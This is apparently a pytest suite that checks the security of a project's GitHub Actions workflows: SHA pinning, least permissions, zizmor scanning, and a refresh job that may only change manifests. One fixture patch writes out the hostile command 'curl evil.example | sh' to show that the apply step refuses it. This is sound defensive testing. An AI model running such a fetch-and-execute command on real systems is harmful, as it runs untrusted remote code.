"""The workflows pass a security review: zizmor finds nothing, every action is pinned by commit
SHA, each job has the least permissions and a timeout, and a failed SARIF upload never stops the
pull-request comment. The reusable workflow's naming step makes parallel plans distinct."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from hpconfig import __version__
from tests.conftest import EXAMPLES, ROOT

BIN = Path(sys.executable).parent
WORKFLOW_DIR = ROOT / ".github" / "workflows"
WORKFLOWS = sorted(WORKFLOW_DIR.glob("*.yml")) + sorted((EXAMPLES / "github").glob("*.yml"))
REUSABLE = WORKFLOW_DIR / "hpconfig-plan.yml"
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")


def _load(path: Path) -> dict[str, Any]:
    # PyYAML reads the key `on` as True; the workflows are data here, not YAML 1.1 booleans.
    return yaml.safe_load(path.read_text().replace("\non:", '\n"on":'))


def _zizmor(*paths: Path) -> subprocess.CompletedProcess[str]:
    zizmor = shutil.which("zizmor", path=str(BIN)) or shutil.which("zizmor")
    if zizmor is None and sys.version_info < (3, 11):
        pytest.skip("zizmor needs Python 3.11+; CI runs it on the newer versions")
    assert zizmor, "zizmor is a test dependency"
    return subprocess.run(
        [zizmor, "--offline", "--no-progress", "--format", "plain", *map(str, paths)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "NO_COLOR": "1"},
    )


def test_zizmor_finds_nothing_in_the_workflows_and_the_examples() -> None:
    # The examples directory is not a .github/workflows, so zizmor is given its files.
    completed = _zizmor(WORKFLOW_DIR, *sorted((EXAMPLES / "github").glob("*.yml")))
    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert "No findings to report" in completed.stdout + completed.stderr


def test_zizmor_catches_an_unpinned_action_and_persisted_credentials(tmp_path: Path) -> None:
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text(
        "on: push\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n"
        "    permissions: {}\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - uses: someone/action@main\n"
    )
    completed = _zizmor(workflows)
    assert completed.returncode != 0
    assert "unpinned-uses" in completed.stdout and "artipacked" in completed.stdout


def _uses() -> list[tuple[str, str]]:
    """Every `uses:` with the comment after it, from the raw lines (the comment is the point)."""
    found = []
    for path in WORKFLOWS:
        for line in path.read_text().splitlines():
            match = re.match(r"\s*(?:- )?uses: (.*)$", line)
            if match:
                found.append((path.name, match.group(1)))
    return found


def test_every_action_is_pinned_by_commit_sha_with_its_version() -> None:
    uses = _uses()
    assert len(uses) >= 15
    for name, use in uses:
        if use.startswith("hpconfig/hpconfig/"):
            # the callers name the reusable workflow's major tag (see the example's comment)
            assert use.endswith("@v1 # zizmor: ignore[unpinned-uses]"), (name, use)
            continue
        assert PINNED.match(use), (name, use)


def test_jobs_have_least_permissions_timeouts_and_no_persisted_credentials() -> None:
    for path in WORKFLOWS:
        workflow = _load(path)
        assert workflow["permissions"] == {}, path.name
        for job_name, job in workflow["jobs"].items():
            if "uses" in job:  # a caller: its grant is what the reusable workflow may use
                continue
            assert isinstance(job.get("timeout-minutes"), int), (path.name, job_name)
            for step in job["steps"]:
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, (path.name, job_name)
    plan_jobs = _load(REUSABLE)["jobs"]
    # the one job that sees the Hyperproof secret can only read the repository
    assert plan_jobs["plan"]["permissions"] == {"contents": "read"}
    assert "cancel-in-progress" in plan_jobs["plan"]["concurrency"]
    # GitHub checks nested jobs' requests against the caller before any `if`: asking here
    # would break a caller that grants less, so these take the caller's grant
    assert "permissions" not in plan_jobs["comment"] and "permissions" not in plan_jobs["sarif"]
    nightly = _load(EXAMPLES / "github" / "nightly-drift.yml")
    assert nightly["jobs"]["drift"]["permissions"] == {
        "contents": "read",
        "security-events": "write",
    }
    assert nightly["concurrency"]["cancel-in-progress"] is False


def test_a_failed_sarif_upload_never_stops_the_comment() -> None:
    jobs = _load(REUSABLE)["jobs"]
    assert jobs["comment"]["needs"] == "plan"  # not the SARIF job
    upload = next(s for s in jobs["sarif"]["steps"] if s.get("id") == "upload")
    assert upload["continue-on-error"] is True
    warning = next(s for s in jobs["sarif"]["steps"] if s.get("id") == "sarif-warning")
    assert warning["if"] == "steps.upload.outcome == 'failure'"
    assert warning["run"].startswith('echo "::warning title=hpconfig::The SARIF upload failed')
    assert jobs["drift"]["needs"] == "plan"  # drift fails the run after the comment is made


def test_the_install_default_is_this_release_under_its_free_name() -> None:
    spec = _load(REUSABLE)["on"]["workflow_call"]["inputs"]["hpconfig-spec"]["default"]
    assert spec == f"hyperproof-config=={__version__}"
    for path in sorted((EXAMPLES / "github").glob("*.yml")):
        caller = next(iter(_load(path)["jobs"].values()))
        if "uses" not in caller:  # a workflow of its own installs the same release
            assert f"HPCONFIG_SPEC: {spec}\n" in path.read_text(), path.name
            continue
        assert caller["with"]["hpconfig-spec"] == spec, path.name
    readme = (ROOT / "README.md").read_text()
    assert (
        "pipx install hyperproof-config" in readme and "uv tool install hyperproof-config" in readme
    )
    assert "hpconfig==" not in readme + "".join(p.read_text() for p in WORKFLOWS)


def _name_step(name: str, paths: str, tmp_path: Path) -> str:
    step = next(s for s in _load(REUSABLE)["jobs"]["plan"]["steps"] if s.get("id") == "name")
    output = tmp_path / "output"
    output.write_text("")
    subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        check=True,
        env={**os.environ, "NAME": name, "PATHS": paths, "GITHUB_OUTPUT": str(output)},
    )
    return output.read_text()


@pytest.mark.parametrize(
    ("name", "paths", "slug"),
    [
        ("", ".", "default"),
        ("", "controls/", "controls"),
        ("", "orgs/eu/controls orgs/eu/hpconfig.yaml", "orgs-eu-controls-orgs-eu-hpconfig.yaml"),
        ("EU org: SOC 2", "controls/", "EU-org-SOC-2"),
    ],
)
def test_each_plan_gets_its_own_artifact_comment_and_category(
    name: str, paths: str, slug: str, tmp_path: Path
) -> None:
    assert _name_step(name, paths, tmp_path) == f"slug={slug}\n"
    text = REUSABLE.read_text()
    for use in (
        "name: hpconfig-plan-${{ steps.name.outputs.slug }}",
        "header: hpconfig-plan-${{ needs.plan.outputs.slug }}",
        "category: hpconfig/${{ needs.plan.outputs.slug }}",
    ):
        assert use in text


REFRESH = EXAMPLES / "github" / "accept-hyperproof-changes.yml"


def test_the_refresh_workflow_keeps_the_secret_and_the_push_in_separate_jobs() -> None:
    jobs = _load(REFRESH)["jobs"]
    assert jobs["refresh"]["permissions"] == {"contents": "read"}
    assert jobs["pull-request"]["permissions"] == {"contents": "write", "pull-requests": "write"}
    refresh_text = yaml.safe_dump(jobs["refresh"])
    pull_request_text = yaml.safe_dump(jobs["pull-request"])
    assert "secrets.HYPERPROOF_CLIENT_SECRET" in refresh_text
    assert "secrets." not in pull_request_text  # the job that can push never sees the secret
    opener = next(s for s in jobs["pull-request"]["steps"] if s.get("name", "").startswith("Open"))
    assert opener["uses"].startswith("peter-evans/create-pull-request@")
    assert opener["with"]["title"] == "Accept changes made in Hyperproof"
    # one fixed branch: the next run updates the same pull request instead of opening another
    assert opener["with"]["branch"] == "hpconfig/accept-hyperproof-changes"
    assert opener["with"]["body-path"].endswith("/refresh/body.md")


def _apply_step(tmp_path: Path, patch: str) -> subprocess.CompletedProcess[str]:
    step = next(
        s
        for s in _load(REFRESH)["jobs"]["pull-request"]["steps"]
        if s.get("name") == "Apply the refresh"
    )
    repo = tmp_path / "repo"
    (repo / "controls").mkdir(parents=True)
    (repo / "controls" / "a.yaml").write_text("controls:\n  - identifier: A\n    name: Old\n")
    (repo / "run.sh").write_text("echo hi\n")
    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t"]
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    subprocess.run([*git, "add", "."], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-qm", "x"], cwd=repo, check=True)
    (tmp_path / "refresh").mkdir()
    (tmp_path / "refresh" / "refresh.patch").write_text(patch)
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
        cwd=repo,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "RUNNER_TEMP": str(tmp_path), "PATHS": "controls/"},
    )


def test_the_refresh_patch_may_change_manifests_only(tmp_path: Path) -> None:
    manifest = (
        "--- a/controls/a.yaml\n+++ b/controls/a.yaml\n@@ -1,3 +1,3 @@\n controls:\n"
        "   - identifier: A\n-    name: Old\n+    name: New\n"
    )
    applied = _apply_step(tmp_path / "ok", manifest)
    assert applied.returncode == 0, applied.stderr
    script = "--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo hi\n+curl evil.example | sh\n"
    refused = _apply_step(tmp_path / "bad", manifest + script)
    assert refused.returncode != 0
    assert "curl" not in (tmp_path / "bad" / "repo" / "run.sh").read_text()


@pytest.mark.parametrize(
    "patch",
    [
        # a YAML file outside PATHS: a workflow, which the job's push would then change
        "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nnew file mode 100644\n"
        "--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n",
        # a link named like a manifest, inside PATHS
        "diff --git a/controls/b.yaml b/controls/b.yaml\nnew file mode 120000\n"
        "--- /dev/null\n+++ b/controls/b.yaml\n@@ -0,0 +1 @@\n+../run.sh\n\\ No newline at end "
        "of file\n",
        # a manifest made executable
        "diff --git a/controls/a.yaml b/controls/a.yaml\nold mode 100644\nnew mode 100755\n",
    ],
    ids=["workflow", "symlink", "mode"],
)
def test_the_refresh_patch_changes_only_the_content_of_files_under_paths(
    tmp_path: Path, patch: str
) -> None:
    # refresh edits the text of manifests under PATHS and nothing else; anything more in the
    # patch is not the refresh's, and the job that can push must not apply it.
    refused = _apply_step(tmp_path, patch)
    assert refused.returncode != 0, refused.stdout + refused.stderr
    repo = tmp_path / "repo"
    assert not (repo / ".github").exists() and not (repo / "controls" / "b.yaml").is_symlink()
    assert not os.access(repo / "controls" / "a.yaml", os.X_OK)
